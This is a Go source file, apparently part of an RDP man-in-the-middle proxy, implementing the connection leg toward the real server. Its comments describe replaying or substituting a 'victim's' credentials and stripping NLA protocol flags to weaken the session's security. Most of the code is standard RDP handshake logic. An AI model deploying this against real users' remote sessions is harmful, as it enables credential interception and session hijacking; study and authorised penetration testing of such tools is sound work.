package engine

import (
	"bytes"

	"github.com/proxysec/rdpmitm/core"
	"github.com/proxysec/rdpmitm/glog"
	"github.com/proxysec/rdpmitm/proto/fastpath"
	"github.com/proxysec/rdpmitm/proto/gcc"
	"github.com/proxysec/rdpmitm/proto/mcs"
	"github.com/proxysec/rdpmitm/proto/pdu/connPdu"
	"github.com/proxysec/rdpmitm/proto/pdu/licPdu"
	"github.com/proxysec/rdpmitm/proto/pdu/mcsPdu"
	"github.com/proxysec/rdpmitm/proto/sec"
	"github.com/proxysec/rdpmitm/proto/x224"
)

// ServerEngine drives the target-facing leg of a session: it speaks the
// RDP client role against the real server, using the GCC settings and
// credentials the coupler hands it (derived from, or substituted for,
// what the victim sent on the other leg).
type ServerEngine struct {
	Transport *core.Stream
	State     ServerState

	ClientSettings gcc.ClientSettings
	ServerSettings gcc.ServerSettings

	UserId   uint16
	Channels []Channel
	// RefusedChannels lists channels the target declined to join; they
	// stay out of Channels and the coupler drops their traffic.
	RefusedChannels []string
	globalId        uint16

	UseTLS             bool
	RequestedProtocols uint32
	EncryptionLevel    uint32
	Keys               *sec.KeySchedule
	ClientRandom       []byte

	// Encrypt and Decrypt live here for the same keystream-continuity
	// reason as on ClientEngine: the Client Info PDU this engine sends is
	// the first packet through the encrypt stream.
	Encrypt *fastpath.Cipher
	Decrypt *fastpath.Cipher
}

// NewServerEngine constructs a ServerEngine bound to an already-dialed
// transport, with the client core/network settings the coupler wants to
// present to the target (normally copied from the victim's own request)
// and the protocol bitmask the victim asked for, replayed in this leg's
// negotiation request.
func NewServerEngine(transport *core.Stream, clientSettings gcc.ClientSettings, requestedProtocols uint32) *ServerEngine {
	return &ServerEngine{
		Transport:          transport,
		State:              ServerStateIdle,
		ClientSettings:     clientSettings,
		RequestedProtocols: requestedProtocols,
	}
}

// Handshake runs the full connection sequence to Active, blocking on the
// transport at each step. It is meant to be called once, synchronously,
// before the session moves to steady-state channel forwarding.
func (e *ServerEngine) Handshake(domain, username, password string) {
	e.sendConnectionRequest()
	e.readConnectionConfirm()
	e.sendConnectInitial()
	e.readConnectResponse()
	e.sendErectDomainAndAttach()
	e.readAttachConfirm()
	e.joinChannels()
	if e.EncryptionLevel != gcc.ENCRYPTION_LEVEL_NONE && !e.UseTLS {
		e.sendSecurityExchange()
	}
	e.sendClientInfo(domain, username, password)
	e.readLicense()
	e.State = ServerStateActive
	glog.Debugf("server engine active, userId=%d channels=%+v", e.UserId, e.Channels)
}

// IOChannelID returns the MCS channel id the real target assigned to the
// I/O channel (ServerSettings.Network.McsChannelId), valid once
// joinChannels has run.
func (e *ServerEngine) IOChannelID() uint16 {
	return e.globalId
}

func (e *ServerEngine) sendConnectionRequest() {
	e.State = ServerStateAwaitConfirm
	// NLA is out of scope, so the hybrid bits the victim may have asked
	// for are masked off before the request is replayed to the target.
	protocols := e.RequestedProtocols &^ (connPdu.PROTOCOL_HYBRID | connPdu.PROTOCOL_HYBRID_EX)
	pdu := connPdu.NewClientConnectionRequestPDU(protocols)
	pdu.Write(e.Transport)
}

func (e *ServerEngine) readConnectionConfirm() {
	resp := &connPdu.ServerConnectionConfirmPDU{}
	resp.Read(e.Transport)
	if resp.HasNeg {
		if resp.ProtocolNeg.IsFailure() {
			core.ThrowRDPErrorf(core.ErrNegotiationFailure, "target refused negotiation, code=%d", resp.ProtocolNeg.Result)
		}
		e.UseTLS = resp.ProtocolNeg.Result&connPdu.PROTOCOL_SSL != 0 ||
			resp.ProtocolNeg.Result&connPdu.PROTOCOL_HYBRID != 0
	}
	if e.UseTLS {
		e.Transport.SwitchSSL()
	}
	e.State = ServerStateAwaitConnectResp
}

func (e *ServerEngine) sendConnectInitial() {
	pdu := mcsPdu.NewClientMcsConnectInitialPdu(e.ClientSettings)
	pdu.Write(e.Transport)
}

func (e *ServerEngine) readConnectResponse() {
	resp := &mcsPdu.ServerMcsConnectResponsePDU{}
	resp.Read(e.Transport)
	e.ServerSettings = resp.GccBlob
	e.EncryptionLevel = e.ServerSettings.Security.EncryptionLevel
	e.State = ServerStateAttachUser
}

func (e *ServerEngine) sendErectDomainAndAttach() {
	erect := &mcs.ClientErectDomain{}
	mcs.WriteDomainPDU(e.Transport, erect.Serialize())

	attach := &mcs.ClientAttachUserRequest{}
	mcs.WriteDomainPDU(e.Transport, attach.Serialize())
}

func (e *ServerEngine) readAttachConfirm() {
	confirm := &mcsPdu.ServerMcsAttachUserConfirmPDU{}
	confirm.Read(e.Transport)
	e.UserId = confirm.McsAUcf.UserId
	e.State = ServerStateJoinChannels
}

// joinChannels issues one serialized ChannelJoinRequest per channel, user
// and I/O channels first. A refusal of the user or I/O channel is fatal;
// nothing can flow without them; but a refused virtual channel is only
// recorded, and the session proceeds without it.
func (e *ServerEngine) joinChannels() {
	e.globalId = e.ServerSettings.Network.McsChannelId
	requestJoin(e.Transport, e.UserId, e.UserId)
	core.ThrowIf(e.confirmJoin().Result != 0, "target refused user channel join")
	requestJoin(e.Transport, e.UserId, e.globalId)
	core.ThrowIf(e.confirmJoin().Result != 0, "target refused io channel join")

	for i, def := range e.ClientSettings.Network.ChannelDefs {
		if i >= len(e.ServerSettings.Network.ChannelIdArray) {
			break
		}
		id := e.ServerSettings.Network.ChannelIdArray[i]
		requestJoin(e.Transport, e.UserId, id)
		if confirm := e.confirmJoin(); confirm.Result != 0 {
			glog.Warnf("target refused channel %q (id %d), continuing without it", def.Name, id)
			e.RefusedChannels = append(e.RefusedChannels, def.Name)
			continue
		}
		e.Channels = append(e.Channels, Channel{Name: def.Name, Id: id})
	}
	e.State = ServerStateAwaitLicense
}

func (e *ServerEngine) confirmJoin() *mcs.ServerChannelJoinConfirm {
	pdu := &mcsPdu.ServerMcsChannelJoinConfirmPDU{}
	pdu.Read(e.Transport)
	return &pdu.McsCJcf
}

func requestJoin(transport *core.Stream, userId, channelId uint16) {
	req := &mcs.ClientChannelJoinRequest{UserId: userId, ChannelId: channelId}
	mcs.WriteDomainPDU(transport, req.Serialize())
}

func (e *ServerEngine) sendSecurityExchange() {
	e.ClientRandom = sec.GenerateClientRandom()
	cert := e.ServerSettings.Security.ServerCert.Proprietary
	core.ThrowIf(cert == nil, "target offered no proprietary certificate for the key exchange")
	encrypted := sec.EncryptClientRandom(e.ClientRandom, cert.Modulus, cert.PubExp)

	pdu := &sec.ClientSecurityExchangePDU{EncryptedClientRandom: encrypted}
	buf := new(bytes.Buffer)
	sh := sec.TsSecurityHeader{Flags: sec.SEC_EXCHANGE_PKT}
	sh.Write(buf)
	pdu.Write(buf)

	sdr := mcs.NewSendDataRequest(e.UserId, e.globalId)
	x224.Write(e.Transport, sdr.Serialize(buf.Bytes()))

	keyLen := 16
	if e.ServerSettings.Security.EncryptionMethod == gcc.ENCRYPTION_METHOD_40BIT {
		keyLen = 8
	}
	e.Keys = sec.DeriveKeySchedule(e.ClientRandom, e.ServerSettings.Security.ServerRandom, keyLen)

	// Client role: encrypt with the client-to-server key, decrypt with
	// the server-to-client key, straight from the schedule.
	e.Encrypt = &fastpath.Cipher{Stream: sec.NewStream(e.Keys.InitialEncrypt), MacKey: e.Keys.MacKey128}
	e.Decrypt = &fastpath.Cipher{Stream: sec.NewStream(e.Keys.InitialDecrypt), MacKey: e.Keys.MacKey128}
}

func (e *ServerEngine) sendClientInfo(domain, username, password string) {
	info := connPdu.NewClientInfoPDU(domain, username, password)
	payload := info.Serialize()

	buf := new(bytes.Buffer)
	if e.Encrypt != nil {
		sh := sec.TsSecurityHeader{Flags: sec.SEC_INFO_PKT | sec.SEC_ENCRYPT}
		sh.Write(buf)
		mac := sec.Sign(e.Encrypt.MacKey, payload)
		core.WriteLE(buf, &mac)
		buf.Write(e.Encrypt.Stream.Apply(payload))
	} else {
		sh := sec.TsSecurityHeader{Flags: sec.SEC_INFO_PKT}
		sh.Write(buf)
		buf.Write(payload)
	}

	sdr := mcs.NewSendDataRequest(e.UserId, e.globalId)
	x224.Write(e.Transport, sdr.Serialize(buf.Bytes()))
}

// readLicense consumes licensing PDUs from the target until the exchange
// completes; for almost every server that is a single ERROR_ALERT
// carrying STATUS_VALID_CLIENT, the same shortcut this proxy's other leg
// synthesizes toward the victim. Licensing is never forwarded between
// legs; each side runs its own exchange.
func (e *ServerEngine) readLicense() {
	for {
		channelId, payload := (&mcs.ReceiveDataResponse{}).Read(e.Transport)
		core.ThrowIf(channelId != e.globalId, "license pdu on unexpected channel")

		r := bytes.NewReader(payload)
		sh := sec.TsSecurityHeader{}
		sh.Read(r)
		core.ThrowIf(sh.Flags&sec.SEC_LICENSE_PKT == 0, "expected license pdu")
		body := core.ReadBytes(r, r.Len())

		if sh.Flags&sec.SEC_ENCRYPT != 0 {
			core.ThrowIf(e.Decrypt == nil, "encrypted license pdu with no key material")
			var mac [8]byte
			copy(mac[:], body[:8])
			body = e.Decrypt.Stream.Apply(body[8:])
			if !sec.VerifySign(e.Decrypt.MacKey, body, mac) {
				core.ThrowRDPErrorf(core.ErrBadSignature, "license pdu signature mismatch")
			}
		}

		if licPdu.ParseLicenseBody(body) {
			return
		}
	}
}
